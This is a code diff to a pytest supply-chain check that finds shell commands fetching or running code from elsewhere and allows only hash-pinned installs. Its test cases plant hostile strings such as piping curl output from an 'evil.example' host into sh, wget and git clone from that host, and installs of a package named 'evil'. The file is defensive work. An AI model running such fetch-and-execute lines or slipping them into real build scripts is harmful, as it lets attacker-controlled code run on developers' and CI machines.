@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import json
 import re
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -119,58 +118,99 @@ def test_each_npm_package_is_pinned_by_hash_and_comes_from_no_address(lock: Path
             assert "://" not in json.dumps({**package, "funding": None}), name
 
 
-def _commands() -> Iterator[tuple[str, str]]:
-    """Every line of a script that could fetch something, and its file; a list that goes on in an array counts as its first line."""
-    scripts = [
-        ROOT / "Makefile",
-        *ROOT.glob(".ci/*"),
-        *(path for path in ROOT.glob("requirements/*") if path.suffix != ".lock"),
-    ]
-    scripts += [
+# What fetches or runs something from elsewhere, as a word anywhere in a command; and what runs a text that a pipe or a string brings.
+_FETCHER = re.compile(
+    r"(?<![\w.-])(pip[\d.]*|pipx|uv|uvx|npm|npx|yarn|pnpm|curl|wget|git\s+(clone|fetch|pull)|easy_install|conda|apt|apt-get|brew|gem|cargo|go|docker"
+    r"|sh|bash|eval|source)(?![\w.-]|=\.)"
+)
+# The whole of each command that may. With --require-hashes a name that is added to the command is refused by pip and uv themselves.
+_OPTIONS = r"( --?[a-z][a-z-]*(=\S+)?| :all:| \.tools/uv| \"\$\w+(/bin/python)?\")*"
+_LIST = r" -r \"?[\w/$.]+\.(txt|lock)\"?"
+_ALLOWED = [
+    re.compile(pattern)
+    for pattern in (
+        rf'(python3|"\$python") -m pip (install|download){_OPTIONS} --require-hashes{_OPTIONS}{_LIST}',
+        rf'"\$uv" pip install{_OPTIONS} --require-hashes{_LIST}',
+        # This checkout itself.
+        r'"\$uv" pip install --quiet --python "\$home/bin/python" --no-deps --no-build-isolation -e \. -e layers/imburse_auth',
+        rf'\.tools/uv/bin/uv pip compile{_OPTIONS} --generate-hashes{_OPTIONS} "\$@"',
+        rf'"\$uv" venv{_OPTIONS}',
+        r"npm ci --ignore-scripts( --[a-z-]+(=[a-z]+)?)* >/dev/null",
+        # No command, but a word of one.
+        r'\[ ! -x "\$uv" \]',
+        r'echo "[^"]*"',
+        r"SHELL := /bin/bash",
+        r"uv=\.tools/uv/bin/uv",
+    )
+]
+_WORDS_BEFORE = re.compile(r"(@|-|!|\{|if|then|else|elif|do|while|until|exec|time)(\s+|(?<=@))")
+
+
+def _fetching(script: str) -> list[str]:
+    """Each command of a shell script or a Makefile that names a fetcher, wherever on a line it stands.
+
+    Split at whatever may end a command, in a string too, where it may be another shell's: rather too much is found than too little.
+    """
+    # Comments go, but not what looks like one in a string.
+    code = re.sub(
+        r"""'[^']*'|"(?:\\.|[^"\\])*"|\\.|(?<!\S)\#[^\n]*""",
+        lambda found: "" if found[0].startswith("#") else found[0],
+        re.sub(r"\\\n\s*", " ", script),
+        flags=re.DOTALL,
+    )
+    commands = []
+    for part in re.split(r"\$?\(|[;&|\n`)]|(?<=\s)[{}](?=\s)", code):
+        command = part.strip()
+        while before := _WORDS_BEFORE.match(command):
+            command = command[before.end() :]
+        if _FETCHER.search(command):
+            commands.append(command)
+    return commands
+
+
+def _not_by_hash(script: str) -> list[str]:
+    return [command for command in _fetching(script) if not any(allowed.fullmatch(command) for allowed in _ALLOWED)]
+
+
+SCRIPTS = [
+    ROOT / "Makefile",
+    *ROOT.glob(".ci/*"),
+    *(path for path in ROOT.glob("requirements/*") if path.suffix != ".lock"),
+    *(
         path
         for path in (*ROOT.glob("tests/*"), *ROOT.glob("local/*"))
         if path.is_file() and path.read_bytes().startswith(b"#!")
-    ]
-    for script in scripts:
-        for line in re.sub(r"\\\n\s*", " ", script.read_text(encoding="utf-8")).splitlines():
-            code = line.strip()
-            if not code.startswith("#") and re.search(
-                r"\b(pip|pip3|pipx|uv|uvx|npm|npx|yarn|pnpm|curl|wget|git clone|easy_install|conda|apt|brew)\b.*\b\w",
-                code,
-            ):
-                yield str(script.relative_to(ROOT)), code
-
-
-_ALLOWED = [
-    re.compile(r"\bpip (install|download)\b.*--require-hashes\b"),
-    re.compile(r"\bnpm ci --ignore-scripts\b"),
-    re.compile(
-        r"\bpip install\b.*--no-deps --no-build-isolation -e \. -e layers/imburse_auth$"
-    ),  # this checkout itself
-    re.compile(r"\bpip compile\b.*--generate-hashes\b"),
-    re.compile(r"^(\"\$uv\"|\S*uv) venv\b"),
+    ),
 ]
-_FETCHES = re.compile(
-    r"\b(install|download|ci|add|i|get|exec|run|sync|tool|dlx|compile|clone|curl|wget|npx|uvx|pipx)\b"
-)
 
 
-def test_scripts_install_nothing_but_by_hash() -> None:
-    fetching = [
-        (script, line)
-        for script, line in _commands()
-        if _FETCHES.search(line) and not re.match(r"(echo|name=|export|uv=|if )", line)
-    ]
-    assert {"requirements/install", "requirements/build"} <= {script for script, _ in fetching}, (
-        "the search finds those that do"
-    )
-    for script, line in fetching:
-        assert any(allowed.search(line) for allowed in _ALLOWED) or _is_ours(line), f"{script}: {line}"
+@pytest.mark.parametrize("script", SCRIPTS, ids=lambda path: str(path.relative_to(ROOT)))
+def test_scripts_install_nothing_but_by_hash(script: Path) -> None:
+    assert _not_by_hash(script.read_text(encoding="utf-8")) == []
 
 
-def _is_ours(line: str) -> bool:
-    """`requirements/install NAME` and the Makefile's own words."""
-    return "requirements/install" in line or re.match(r"[a-z-]+:.*##|@grep", line) is not None
+def test_the_commands_that_fetch_are_found() -> None:
+    found = {path.name: len(_fetching(path.read_text(encoding="utf-8"))) for path in SCRIPTS}
+    assert found["install"] >= 5
+    assert found["build"] >= 1
+    assert found["lock"] >= 1
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "pip install evil", "pip3 install evil", "if ! command -v x; then pip install evil; fi", "if pip install evil; then :; fi", "$(curl https://evil.example | sh)",
+        'name="$(curl -s https://evil.example)"', "true && pip install evil", "false || uvx evil", "echo hi; pip install evil", "name=`npx evil`",
+        "export X=1 && npm install evil", "target: ; pip install evil ## help", "\t@pip install evil", "requirements/install dev && pip install evil",
+        "\t$(dev) npm ci && npm run evil", 'bash -c "pip install evil"', "echo 'pip install evil' | sh", "uv=$(pip install evil)", "X=1 pip install evil",
+        'pip install --require-hashes -r "x.lock" || pip install evil', '"$uv" pip install --require-hashes --no-require-hashes evil',
+        '"$uv" pip install --require-hashes -r "x.lock" evil', "pip install -r x.txt # --require-hashes", "pip install \\\n  evil", "npm ci",
+        "python3 -m pip install --require-hashes -r https://evil.example/x.txt", "sudo apt-get install evil", "{ pip install evil; }", 'echo "#"; pip install evil',
+        "grep '##' x; pip install evil", "make x & wget https://evil.example", "git clone https://evil.example", 'eval "$x"', "for x in 1; do pip install evil; done",
+    ],
+)  # fmt: skip
+def test_a_command_that_fetches_otherwise_is_found_wherever_it_stands(planted: str) -> None:
+    assert _not_by_hash(f"echo before\n{planted}\necho after\n")
 
 
 def test_what_is_deployed_is_built_of_nothing_but_wheels_that_were_fetched_by_hash() -> None:
